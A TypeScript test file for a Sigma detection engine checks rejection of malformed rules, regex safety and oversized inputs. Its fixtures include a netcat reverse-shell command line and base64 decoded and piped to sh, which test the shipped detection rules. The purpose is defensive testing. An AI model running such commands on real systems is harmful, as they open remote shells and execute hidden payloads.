// Acceptance "bad input" of the detection engine, at the engine level: a malformed rule file, a rule that is
// valid YAML but not valid Sigma, an unknown modifier, catastrophic and RE2-incompatible regular expressions
// and a 10 MB event field are each rejected (or survived) with a clear reason, and the rest of the rule set
// keeps loading and matching real InoSec process events.
import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { performance } from 'node:perf_hooks';
import { ProcessEventAction, type IEvent } from '@inosec/protos';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_RULE_DIRS, loadInosecRuleSet, matchEvents, type SigmaHit } from '../src/detection/index.js';
import { JsonRecordsError, parseJsonRecords, type LoadedRuleSet } from '../src/sigma/engine/index.js';
import { SHIPPED_SIGMA_RULES_DIR } from '../src/sigma/shipped-rules.js';

/** Shipped SigmaHQ rules copied into the bad-input directory, by id. */
const SHIPPED = {
  base64Exec: {
    id: 'ba592c6d-6888-43c3-b8c6-689b8fe47337',
    file: 'rules/linux/process_creation/proc_creation_lnx_base64_execution.yml',
  },
  base64Decode: {
    id: 'e2072cab-8c9a-459b-b63c-40ae79e27031',
    file: 'rules/linux/process_creation/proc_creation_lnx_base64_decode.yml',
  },
  netcat: {
    id: '7f734ed0-4f47-46c0-837f-6ee62505abd9',
    file: 'rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml',
  },
} as const;

const ID = {
  badYaml: 'b0000001-0000-4000-8000-000000000001',
  noDetection: 'b0000002-0000-4000-8000-000000000002',
  undefinedSelection: 'b0000003-0000-4000-8000-000000000003',
  unknownModifier: 'b0000004-0000-4000-8000-000000000004',
  catastrophic: 'b0000005-0000-4000-8000-000000000005',
  backreference: 'b0000006-0000-4000-8000-000000000006',
  lookahead: 'b0000007-0000-4000-8000-000000000007',
  invalidRegex: 'b0000008-0000-4000-8000-000000000008',
  multiBad: 'b0000009-0000-4000-8000-000000000009',
  multiGood: 'b000000a-0000-4000-8000-00000000000a',
} as const;

/** The head of a process_creation rule (YAML), up to but excluding `detection`. */
function head(id: string, title: string): string {
  return [
    `title: ${title}`,
    `id: ${id}`,
    'status: test',
    'level: high',
    'logsource:',
    '    product: linux',
    '    category: process_creation',
    '',
  ].join('\n');
}

/** A whole process_creation rule whose selection is one detection item (`key: value`, value as YAML). */
function itemRule(id: string, title: string, key: string, value: string): string {
  return `${head(id, title)}detection:\n    selection:\n        ${key}: ${value}\n    condition: selection\n`;
}

/** The bad (and partly bad) rule files, by file name. */
const BAD_FILES: Record<string, string> = {
  // Broken indentation under `detection` (the id is readable, the document is not).
  'bad_yaml_indent.yml': `${head(ID.badYaml, 'Broken Indentation')}detection:\n    selection:\n        CommandLine|contains: x\n   condition: selection\n`,
  // An unclosed quote: everything after it is swallowed, the id included.
  'bad_yaml_quote.yml': `title: 'Unclosed Quote\nid: b00000ff-0000-4000-8000-0000000000ff\nlogsource:\n    product: linux\n`,
  'no_detection.yml': `${head(ID.noDetection, 'No Detection')}falsepositives:\n    - none\n`,
  'undefined_selection.yml': `${head(ID.undefinedSelection, 'Undefined Selection')}detection:\n    selection:\n        CommandLine|contains: x\n    condition: selection and not filter_missing\n`,
  'unknown_modifier.yml': itemRule(ID.unknownModifier, 'Unknown Modifier', 'CommandLine|containz', 'x'),
  'catastrophic_regex.yml': itemRule(ID.catastrophic, 'Catastrophic Regex', 'CommandLine|re', `'(a+)+$'`),
  'backreference_regex.yml': itemRule(ID.backreference, 'Backreference', 'CommandLine|re', `'(a)\\1'`),
  'lookahead_regex.yml': itemRule(ID.lookahead, 'Lookahead', 'CommandLine|re', `'curl(?= -d)'`),
  'invalid_regex.yml': itemRule(ID.invalidRegex, 'Invalid Regex', 'CommandLine|re', `'curl ([a-z'`),
  'multi_document.yml': [
    itemRule(ID.multiBad, 'Multi Bad', 'CommandLine|contains|allz', `['a', 'b']`),
    itemRule(ID.multiGood, 'Multi Good', 'CommandLine|contains', `'inosec-multi-doc-marker'`),
  ].join('---\n'),
};

interface Expected {
  file: string;
  /** The rule id the message names (`document 1` when the YAML never parsed far enough to read it). */
  id: string;
  category: 'errors' | 'unsupported';
  /** Texts the message must hold (the offending key, the reason). */
  says: readonly string[];
  reason?: string;
}

const EXPECTED: readonly Expected[] = [
  {
    file: 'bad_yaml_indent.yml',
    id: ID.badYaml,
    category: 'errors',
    says: ['YAML syntax error at line 11, column 1', 'same column', 'BAD_INDENT'],
  },
  {
    file: 'bad_yaml_quote.yml',
    id: 'document 1',
    category: 'errors',
    says: ['YAML syntax error', 'closing', 'quote'],
  },
  { file: 'no_detection.yml', id: ID.noDetection, category: 'errors', says: ["missing key 'detection'"] },
  {
    file: 'undefined_selection.yml',
    id: ID.undefinedSelection,
    category: 'errors',
    says: ['at detection.condition', "unknown search identifier 'filter_missing'"],
  },
  {
    file: 'unknown_modifier.yml',
    id: ID.unknownModifier,
    category: 'errors',
    says: ['at detection.selection.CommandLine|containz', "unknown modifier 'containz'", "'contains'"],
  },
  {
    file: 'backreference_regex.yml',
    id: ID.backreference,
    category: 'unsupported',
    reason: 'regex-unsupported',
    says: ['at detection.selection.CommandLine|re', String.raw`'(a)\1'`, 'linear-time'],
  },
  {
    file: 'lookahead_regex.yml',
    id: ID.lookahead,
    category: 'unsupported',
    reason: 'regex-unsupported',
    says: ['at detection.selection.CommandLine|re', "'curl(?= -d)'", '(?='],
  },
  {
    file: 'invalid_regex.yml',
    id: ID.invalidRegex,
    category: 'errors',
    says: ['at detection.selection.CommandLine|re', "invalid regular expression 'curl ([a-z'"],
  },
  {
    file: 'multi_document.yml',
    id: ID.multiBad,
    category: 'errors',
    says: ['at detection.selection.CommandLine|contains|allz', "unknown modifier 'allz'"],
  },
];

let dir = '';
let loaded: LoadedRuleSet;

/** A process start as the procfs sensor reports it (the command line is the arguments joined). */
function processStart(executable: string, commandLine: string, seq = 1): IEvent {
  return {
    sensor: 'procfs',
    seq,
    timeUnixUs: 1_700_000_000_000_000 + seq,
    host: { hostname: 'plc-gw-01', id: 'host-1' },
    process: {
      action: ProcessEventAction.ACTION_START,
      process: {
        pid: 4242,
        ppid: 4000,
        entityId: `e-${seq}`,
        executable,
        name: path.basename(executable),
        commandLine,
        workingDirectory: '/tmp',
        user: { id: '33', name: 'www-data' },
      },
      parent: { pid: 4000, executable: '/usr/bin/bash', commandLine: 'bash' },
    },
  };
}

function hitIds(hits: readonly SigmaHit[]): string[] {
  return hits.map((hit) => hit.ruleId).sort();
}

/** Prints a measured time (printed, never asserted: speed belongs to the benchmarks). */
function note(text: string): void {
  // eslint-disable-next-line no-console -- the test reports how long the hostile inputs took
  console.info(`[bad input] ${text}`);
}

/** Milliseconds `run` takes, and its result. */
function timed<T>(run: () => T): { result: T; ms: number } {
  const start = performance.now();
  const result = run();
  return { result, ms: performance.now() - start };
}

/** The base64-pipe-to-shell command line of a procfs start (`sh -c` arguments joined by spaces). */
const BASE64_TO_SHELL = 'sh -c echo ZWNobyBoaQ== | base64 -d | sh';

describe('bad rule files: each rejected with a clear reason, the rest keep working', () => {
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'inosec-bad-input-'));
    for (const { file } of Object.values(SHIPPED)) {
      await copyFile(path.join(SHIPPED_SIGMA_RULES_DIR, file), path.join(dir, path.basename(file)));
    }
    for (const [name, text] of Object.entries(BAD_FILES)) await writeFile(path.join(dir, name), text);
    loaded = await loadInosecRuleSet([dir]);
  });

  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it.each(EXPECTED)('reports $file in $category, naming the file, rule and key', (expected) => {
    const { report } = loaded;
    const file = path.join(dir, expected.file);
    const entries =
      expected.category === 'errors'
        ? report.errors.filter((error) => error.file === file)
        : report.unsupported.filter((rule) => rule.file === file);
    expect(entries, `${expected.category} of ${expected.file}`).toHaveLength(1);
    const [entry] = entries;
    expect(entry?.id).toBe(expected.id);
    expect(entry?.message.startsWith(`${file}, rule ${expected.id}`)).toBe(true);
    for (const text of expected.says) expect(entry?.message).toContain(text);
    if (expected.reason) expect(entry).toMatchObject({ reason: expected.reason });
  });

  it('reports nothing else, and loads exactly the good rules', () => {
    const { report, ruleSet } = loaded;
    const errorFiles = EXPECTED.filter((e) => e.category === 'errors').map((e) => path.join(dir, e.file));
    const unsupportedFiles = EXPECTED.filter((e) => e.category === 'unsupported').map((e) =>
      path.join(dir, e.file),
    );
    expect(report.errors.map((error) => error.file).sort()).toEqual(errorFiles.sort());
    expect(report.unsupported.map((rule) => rule.file).sort()).toEqual(unsupportedFiles.sort());
    const good = [...Object.values(SHIPPED).map((rule) => rule.id), ID.catastrophic, ID.multiGood];
    expect(ruleSet.rules.map((rule) => rule.id).sort()).toEqual(good.sort());
    expect(report.loaded).toBe(good.length);
  });

  it('still matches real process events with the good rules, and not their near misses', () => {
    const events = [
      processStart('/usr/bin/sh', BASE64_TO_SHELL, 1),
      processStart('/usr/bin/base64', 'base64 -d /tmp/payload.b64', 2),
      processStart('/usr/bin/nc', 'nc 203.0.113.7 4444 -e /bin/sh', 3),
      processStart('/usr/bin/cat', 'cat inosec-multi-doc-marker.txt', 4),
      // Near misses: decoded to a file (no shell), base64 encoding (no -d), nc without -e/-c, the bad
      // document's values.
      processStart('/usr/bin/sh', 'sh -c echo ZWNobyBoaQ== | base64 -d > /tmp/out.txt', 5),
      processStart('/usr/bin/base64', 'base64 /etc/hostname', 6),
      processStart('/usr/bin/nc', 'nc -l 4444 /bin/sh', 7),
      processStart('/usr/bin/cat', 'cat a b', 8),
    ];
    const hits = matchEvents(loaded.ruleSet, 'agent-1', events);
    expect(hits.map((hit) => [hit.ref.seq, hit.ruleId])).toEqual([
      [1, SHIPPED.base64Exec.id],
      [2, SHIPPED.base64Decode.id],
      [3, SHIPPED.netcat.id],
      [4, ID.multiGood],
    ]);
    expect(hits[0]).toMatchObject({
      logsourceKey: 'linux/process_creation',
      hostName: 'plc-gw-01',
      ref: { agentId: 'agent-1', seq: 1 },
    });
  });

  it('runs the catastrophic (a+)+$ in linear time: 100,000 chars, right answers, no hang', () => {
    const noMatch = `${'a'.repeat(100_000)}!`;
    const { result: missHits, ms: missMs } = timed(() =>
      matchEvents(loaded.ruleSet, 'agent-1', [processStart('/usr/bin/sh', noMatch)]),
    );
    const { result: matchHits, ms: matchMs } = timed(() =>
      matchEvents(loaded.ruleSet, 'agent-1', [processStart('/usr/bin/sh', `!${'a'.repeat(100_000)}`)]),
    );
    note(`(a+)+$ on 100,000 chars: ${missMs.toFixed(1)} ms (no match), ${matchMs.toFixed(1)} ms (match)`);
    expect(hitIds(missHits)).toEqual([]);
    expect(hitIds(matchHits)).toEqual([ID.catastrophic]);
    // A hang guard, not a speed test (speed belongs to the benchmarks): a backtracking engine takes
    // longer than the age of the universe on this input; a linear one takes milliseconds.
    expect(missMs + matchMs).toBeLessThan(5_000);
  });
});

describe('a 10 MB event field, against the whole default rule set', () => {
  const TEN_MB = 10 * 1024 * 1024;
  /** Shell-like filler that holds near misses of the base64 rule (`base64` without its shell pipe). */
  const CHUNK = 'echo base64-data /usr/lib/x86_64-linux-gnu/libc.so.6 --opt=value | tee -a out.log ';
  const filler = CHUNK.repeat(Math.ceil(TEN_MB / CHUNK.length)).slice(0, TEN_MB);
  let rules: LoadedRuleSet;

  beforeAll(async () => {
    rules = await loadInosecRuleSet(DEFAULT_RULE_DIRS);
  });

  it('loads the default rule set without errors', () => {
    expect(rules.report.errors).toEqual([]);
    expect(rules.ruleSet.size).toBeGreaterThan(200);
    expect(rules.ruleSet.rulesOf('linux/process_creation').map((rule) => rule.id)).toContain(
      SHIPPED.base64Exec.id,
    );
  });

  it('evaluates a 10 MB command line without an exception, and the next event still matches', () => {
    const big = processStart('/usr/bin/sh', `sh -c ${filler}`, 1);
    const { result: bigHits, ms } = timed(() => matchEvents(rules.ruleSet, 'agent-1', [big]));
    note(`10 MB command line, default rule set: ${ms.toFixed(0)} ms, ${bigHits.length} hits`);
    expect(hitIds(bigHits)).not.toContain(SHIPPED.base64Exec.id);
    const next = matchEvents(rules.ruleSet, 'agent-1', [processStart('/usr/bin/sh', BASE64_TO_SHELL, 2)]);
    expect(hitIds(next)).toContain(SHIPPED.base64Exec.id);
    expect(ms).toBeLessThan(5_000); // hang guard only (see above)
  });

  it('finds the base64 pipe to a shell at the end of 10 MB of filler', () => {
    const big = processStart('/usr/bin/sh', `sh -c ${filler} ; echo ZWNobyBoaQ== | base64 -d | sh`, 3);
    const { result: hits, ms } = timed(() => matchEvents(rules.ruleSet, 'agent-1', [big]));
    note(`10 MB command line with the match at its end: ${ms.toFixed(0)} ms`);
    expect(hitIds(hits)).toContain(SHIPPED.base64Exec.id);
    expect(ms).toBeLessThan(5_000); // hang guard only
  });

  it('handles a 10 MB value and 100,000 nested arrays in raw JSON records, and names the offset of a broken one', () => {
    const text = [
      JSON.stringify({ Image: '/usr/bin/sh', CommandLine: `sh -c ${filler} | base64 -d | sh` }),
      JSON.stringify({ Image: '/usr/bin/sh', CommandLine: `sh -c ${filler}` }),
    ].join('\n');
    const records = parseJsonRecords(text);
    expect(records).toHaveLength(2);
    const matched = records.map((record) =>
      rules.ruleSet.matches(record as Record<string, unknown>).map((rule) => rule.id),
    );
    expect(matched[0]).toContain(SHIPPED.base64Exec.id);
    expect(matched[1]).not.toContain(SHIPPED.base64Exec.id);

    // 100,000 nested arrays (JSON.parse reads them without recursion; matching must not overflow either).
    const hostile = `{"Image": "/usr/bin/sh", "CommandLine": ${'['.repeat(100_000)}"x"${']'.repeat(100_000)}}`;
    const [deep] = parseJsonRecords(hostile);
    expect(rules.ruleSet.matches(deep as Record<string, unknown>)).toEqual([]);
    expect(
      rules.ruleSet.matches({ Image: '/usr/bin/sh', CommandLine: BASE64_TO_SHELL }).map((r) => r.id),
    ).toContain(SHIPPED.base64Exec.id);

    const unterminated = `{"CommandLine": "${filler}`;
    expect(() => parseJsonRecords(`{"ok": 1}\n${unterminated}`)).toThrow(JsonRecordsError);
    expect(() => parseJsonRecords(`{"ok": 1}\n${unterminated}`)).toThrow(/invalid JSON value at offset 10/);
  });
});
